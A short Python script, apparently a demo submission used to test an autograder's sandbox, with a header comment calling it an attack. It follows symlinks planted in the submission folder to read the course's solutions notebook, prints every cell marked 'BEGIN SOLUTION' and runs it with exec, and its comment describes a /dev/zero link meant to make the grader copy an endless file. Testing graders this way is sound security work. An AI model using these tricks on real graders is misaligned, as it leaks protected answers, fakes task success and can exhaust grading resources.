# Attack (with links the demo class puts in this submission's folder: `course_solution.ipynb` to the
# course's solutions notebook, `zero` to /dev/zero): read the solutions through the link and run
# them; make the grader copy an endless file.
import json
import os

for name in sorted(os.listdir(".")):
    print(name, os.path.islink(name))
try:
    nb = json.load(open("course_solution.ipynb"))
    for cell in nb["cells"]:
        source = "".join(cell["source"])
        if "BEGIN SOLUTION" in source:
            print(source)
            exec(source, globals())
except Exception as error:
    print("no solutions:", type(error).__name__, error)
